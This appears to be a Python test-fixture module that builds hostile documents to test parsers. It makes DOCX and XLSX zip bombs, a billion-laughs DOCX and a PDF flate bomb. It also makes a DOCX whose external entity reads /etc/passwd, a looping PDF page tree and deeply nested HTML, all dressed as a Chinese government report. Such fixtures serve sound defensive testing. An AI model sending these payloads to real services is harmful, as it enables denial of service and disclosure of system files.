"""Hostile files, built to the shapes attackers use: zip bombs dressed as DOCX and XLSX, a
billion-laughs XML part, PDFs whose content inflates without end or whose page tree loops, and an
HTML page nested 100,000 levels deep.

Every builder is deterministic. The zip bombs are real: their XML inflates to `inflated` bytes
(deflate tops out near 1,000:1, so a 1 GB bomb is about 1 MB of zip), built by streaming so
the builder itself never holds the inflated text.
"""

from __future__ import annotations

import io
import zipfile
import zlib

from testbed.files import FIXED_TIME, docx_file, xlsx_file

GB = 1024 ** 3
CHUNK = 4 * 1024 * 1024
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TITLE = "某县人民政府2024年政府信息公开工作年度报告"


def docx_bomb(inflated: int = GB + GB // 8) -> bytes:
    """A DOCX whose word/document.xml inflates to `inflated` bytes of paragraphs."""
    head = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>'.encode()
    unit = "<w:p><w:r><w:t>政府信息公开</w:t></w:r></w:p>".encode()
    tail = b"</w:body></w:document>"
    return _swap_member(docx_file(TITLE, ["正文"]), "word/document.xml",
                        _repeat(head, unit, tail, inflated))


def xlsx_bomb(inflated: int = GB + GB // 8) -> bytes:
    """An XLSX whose first sheet inflates to `inflated` bytes of rows."""
    head = f'<?xml version="1.0"?><worksheet xmlns="{S_NS}"><sheetData>'.encode()
    unit = b'<row><c t="inlineStr"><is><t>1</t></is></c></row>'
    tail = b"</sheetData></worksheet>"
    return _swap_member(xlsx_file(TITLE, ["正文"]), "xl/worksheets/sheet1.xml",
                        _repeat(head, unit, tail, inflated))


def billion_laughs_docx(levels: int = 10) -> bytes:
    """A small DOCX whose document.xml defines entities that expand to 10**levels "lol"s."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)]
    xml = (f'<?xml version="1.0"?><!DOCTYPE w:document [{"".join(entities)}]>'
           f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol{levels - 1};</w:t>'
           "</w:r></w:p></w:body></w:document>").encode()
    return _swap_member(docx_file(TITLE, ["正文"]), "word/document.xml", [xml])


def external_entity_docx(target: str = "file:///etc/passwd") -> bytes:
    """A DOCX whose document.xml pulls a local file in through an external entity."""
    xml = (f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "{target}">]>'
           f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
           "</w:body></w:document>").encode()
    return _swap_member(docx_file(TITLE, ["正文"]), "word/document.xml", [xml])


def many_members_docx(members: int = 20_000) -> bytes:
    """A DOCX padded with many empty members: a central directory to exhaust."""
    out = io.BytesIO(docx_file(TITLE, ["正文"]))
    with zipfile.ZipFile(out, "a") as archive:
        for n in range(members):
            archive.writestr(zipfile.ZipInfo(f"customXml/item{n}.bin", FIXED_TIME), b"")
    return out.getvalue()


def pdf_flate_bomb(inflated: int = GB + GB // 8) -> bytes:
    """A one-page PDF whose content stream inflates to `inflated` bytes of drawing operators."""
    squeeze = zlib.compressobj(9)
    unit = b"0 0 m 1 1 l S\n" * (CHUNK // 14)
    pieces, left = [], inflated
    while left > 0:
        piece = unit[:left]
        pieces.append(squeeze.compress(piece))
        left -= len(piece)
    stream = b"".join(pieces) + squeeze.flush()
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream
        + b"\nendstream",
    ])


def pdf_page_tree_loop() -> bytes:
    """A PDF whose page tree holds itself: walking it naively never ends."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>",
    ])


def deeply_nested_html(levels: int = 100_000) -> bytes:
    """An HTML page of `levels` nested <div>s around a report's title and a paragraph."""
    return (b"<html><head><meta charset='utf-8'><title>" + TITLE.encode() + b"</title></head>"
            b"<body>" + b"<div>" * levels + "<p>政府信息公开工作</p>".encode()
            + b"</div>" * levels + b"</body></html>")


def _repeat(head: bytes, unit: bytes, tail: bytes, size: int) -> list[bytes]:
    block = unit * (CHUNK // len(unit))
    pieces, left = [head], size - len(head) - len(tail)
    while left > 0:
        pieces.append(block[:left])
        left -= len(block)
    return pieces + [tail]


def _swap_member(data: bytes, name: str, content: list[bytes]) -> bytes:
    """The zip with member `name` replaced by the concatenated pieces, streamed in."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            entry = zipfile.ZipInfo(info.filename, FIXED_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            if info.filename != name:
                target.writestr(entry, source.read(info.filename))
                continue
            with target.open(entry, "w", force_zip64=True) as member:
                for piece in content:
                    member.write(piece)
    return out.getvalue()


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()
